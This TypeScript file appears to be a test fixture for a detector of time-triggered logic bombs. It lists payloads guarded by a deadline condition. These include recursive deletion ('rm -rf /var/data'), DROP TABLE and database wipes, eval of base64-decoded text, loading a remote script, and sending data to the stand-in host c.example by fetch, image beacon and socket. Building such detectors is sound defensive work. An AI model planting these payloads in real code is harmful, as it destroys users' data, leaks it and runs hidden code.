/**
 * The payload axis of the flow matrix: every kind of harm in the forms in which programs do it. `GUARD` stands for the
 * condition on the clock, true from the deadline on. Names are kept plain, so that the form and not a word tells the harm.
 */
import type { PayloadKind } from '../../src/model.js';
import { denials } from './payloads-deny.js';
import { renderings } from './payloads-interface.js';

/** One way to do harm. */
export interface PayloadForm {
  readonly kind: Exclude<PayloadKind, 'unknown'>;
  readonly name: string;
  /** A program in which `GUARD` stands for the condition; files by path, or the text of `main.ts`. */
  readonly program: string | Readonly<Record<string, string>>;
}

const form = (kind: PayloadForm['kind'], name: string, program: PayloadForm['program']): PayloadForm => ({
  kind,
  name,
  program,
});

/** A statement in a function that is exported and called. */
const doing = (kind: PayloadForm['kind'], name: string, statement: string, before = ''): PayloadForm =>
  form(
    kind,
    name,
    `${before}\nexport function start(): void {\n  if (GUARD) { ${statement} }\n  work();\n}\ndeclare function work(): void;\n`,
  );

const endings: readonly PayloadForm[] = [
  doing('terminate', 'process.exit', 'process.exit(1);'),
  doing('terminate', 'process.kill', "process.kill(process.pid, 'SIGKILL');"),
  doing('terminate', 'exit code', 'process.exitCode = 70;'),
  doing('terminate', 'electron app.quit', 'app.quit();', "import { app } from 'electron';"),
  doing('terminate', 'electron remote', 'remote.app.exit(0);', "const { remote } = require('electron');"),
  doing('terminate', 'imported exit', 'exit(3);', "import { exit } from 'node:process';"),
  doing('terminate', 'closing the window', 'window.close();'),
];

const errors: readonly PayloadForm[] = [
  doing('throw', 'throw', "throw new Error('E7');"),
  doing('throw', 'a class of its own', 'throw new Halt();', 'class Halt extends Error {}'),
  form(
    'throw',
    'Promise.reject',
    `export function start(): Promise<string> { return GUARD ? Promise.reject(new Error('E7')) : Promise.resolve('on'); }`,
  ),
  form(
    'throw',
    'reject()',
    `export const start = () => new Promise((resolve, reject) => { if (GUARD) { reject(new Error('E7')); return; } resolve('on'); });`,
  ),
  form(
    'throw',
    'callback(error)',
    `export function start(callback: (error: Error | null, value?: string) => void) { if (GUARD) return callback(new Error('E7')); callback(null, 'on'); }`,
  ),
  form(
    'throw',
    'async throw',
    `export async function start() { await Promise.resolve(); if (GUARD) throw new TypeError('E7'); return 'on'; }`,
  ),
  form(
    'throw',
    'nest exception',
    `import { ForbiddenException, Injectable } from '@nestjs/common'; @Injectable() export class Plans { use() { if (GUARD) throw new ForbiddenException(); return 'on'; } }`,
  ),
  form(
    'throw',
    'an error event',
    `import { EventEmitter } from 'node:events'; export class Job extends EventEmitter { run() { if (GUARD) { this.emit('error', new Error('E7')); return; } this.emit('done'); } }`,
  ),
];

const destructions: readonly PayloadForm[] = [
  doing(
    'destroy',
    'fs.rmSync',
    'rmSync(folder, { recursive: true });',
    "import { rmSync } from 'node:fs'; declare const folder: string;",
  ),
  doing(
    'destroy',
    'fs.promises.unlink',
    'void fs.promises.unlink(file);',
    "import fs from 'fs'; declare const file: string;",
  ),
  doing('destroy', 'DROP TABLE', "void db.query('DROP TABLE customers');", 'declare const db: any;'),
  doing(
    'destroy',
    'DELETE FROM',
    'void pool.query(`DELETE FROM orders`);',
    "import { Pool } from 'pg'; const pool = new Pool();",
  ),
  doing('destroy', 'deleteMany', 'void Model.deleteMany({});', 'declare const Model: any;'),
  doing('destroy', 'localStorage.clear', 'localStorage.clear();'),
  doing('destroy', 'indexedDB.deleteDatabase', "indexedDB.deleteDatabase('app');"),
  doing('destroy', 'flushall', 'void redis.flushall();', 'declare const redis: any;'),
  doing(
    'destroy',
    'a shell that deletes',
    "execSync('rm -rf /var/data');",
    "import { execSync } from 'node:child_process';",
  ),
  doing(
    'destroy',
    'overwriting at random',
    'rows.forEach((row, i) => { if (Math.random() < 0.1) rows[i] = null; });',
    'declare const rows: any[];',
  ),
];

const executions: readonly PayloadForm[] = [
  doing(
    'execute',
    'spawn',
    "spawn('sh', ['-c', command]);",
    "import { spawn } from 'node:child_process'; declare const command: string;",
  ),
  doing(
    'execute',
    'promisified exec',
    'void run(command);',
    "import { exec } from 'node:child_process'; import { promisify } from 'node:util'; const run = promisify(exec); declare const command: string;",
  ),
  doing('execute', 'eval of decoded text', "eval(Buffer.from('YWxlcnQoMSk=', 'base64').toString());"),
  doing('execute', 'Function', "new Function(atob('YWxlcnQoMSk='))();"),
  doing('execute', 'vm', 'vm.runInNewContext(code);', "import vm from 'node:vm'; declare const code: string;"),
  form(
    'execute',
    'a script tag',
    `export function start() { if (GUARD) { const tag = document.createElement('script'); tag.src = 'https://cdn.example/x.js'; document.head.appendChild(tag); } }`,
  ),
  doing('execute', 'a timer given text', "setTimeout('run()', 10);"),
];

const talk: readonly PayloadForm[] = [
  doing(
    'network',
    'fetch',
    "void fetch('https://c.example/p', { method: 'POST', body: data });",
    'declare const data: string;',
  ),
  doing(
    'network',
    'axios',
    "void axios.post('https://c.example/p', data);",
    "import axios from 'axios'; declare const data: string;",
  ),
  doing(
    'network',
    'axios.create',
    "void client.post('/p', data);",
    "import axios from 'axios'; const client = axios.create({}); declare const data: string;",
  ),
  doing(
    'network',
    'https.request',
    "https.request('https://c.example/p').end(data);",
    "import https from 'node:https'; declare const data: string;",
  ),
  doing('network', 'sendBeacon', "navigator.sendBeacon('/p', data);", 'declare const data: string;'),
  doing('network', 'an image', "new Image().src = 'https://c.example/p?d=' + data;", 'declare const data: string;'),
  doing(
    'network',
    'a socket',
    "net.connect(7000, 'c.example').write(data);",
    "import net from 'node:net'; declare const data: string;",
  ),
];

const elsewhere: readonly PayloadForm[] = [
  doing('redirect', 'location.href', "window.location.href = '/closed';"),
  doing('redirect', 'location', "location = '/closed' as any;"),
  doing('redirect', 'location.replace', "location.replace('/closed');"),
  form(
    'redirect',
    'res.redirect',
    `export function handler(req: any, res: any) { if (GUARD) return res.redirect(302, '/closed'); res.send('page'); }`,
  ),
  form(
    'redirect',
    'useRouter',
    `import { useRouter } from 'next/router'; export function Page() { const router = useRouter(); if (GUARD) router.push('/closed'); return 'page'; }`,
  ),
  form(
    'redirect',
    'next redirect()',
    `import { redirect } from 'next/navigation'; export default function Page() { if (GUARD) redirect('/closed'); return 'page'; }`,
  ),
  form(
    'redirect',
    'vue router',
    `import { createRouter } from 'vue-router'; const router = createRouter({}); router.beforeEach((to, from) => { if (GUARD) return { name: 'closed' }; return true; });`,
  ),
  form(
    'redirect',
    'vue router, next',
    `import { createRouter } from 'vue-router'; const router = createRouter({}); router.beforeEach((to, from, n) => { if (GUARD) return n('/closed'); n(); });`,
  ),
  form(
    'redirect',
    'react-router Navigate',
    `import { useNavigate } from 'react-router-dom'; export function Page() { const go = useNavigate(); if (GUARD) go('/closed'); return 'page'; }`,
  ),
  form(
    'redirect',
    'angular router',
    `import { Router } from '@angular/router'; export class Shell { constructor(private readonly router: Router) {} ngOnInit() { if (GUARD) this.router.navigate(['/closed']); } }`,
  ),
];

const hangs: readonly PayloadForm[] = [
  doing('hang', 'while (true)', 'while (true) {}'),
  doing('hang', 'for (;;)', 'for (;;) { spin++; }', 'let spin = 0;'),
  doing('hang', 'Atomics.wait', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0);'),
  form(
    'hang',
    'a promise that never settles',
    `export async function start() { if (GUARD) await new Promise(() => {}); return 'on'; }`,
  ),
];

/** Every form of harm. */
export const payloads: readonly PayloadForm[] = [
  ...endings,
  ...errors,
  ...denials,
  ...destructions,
  ...executions,
  ...talk,
  ...elsewhere,
  ...hangs,
  ...renderings,
];
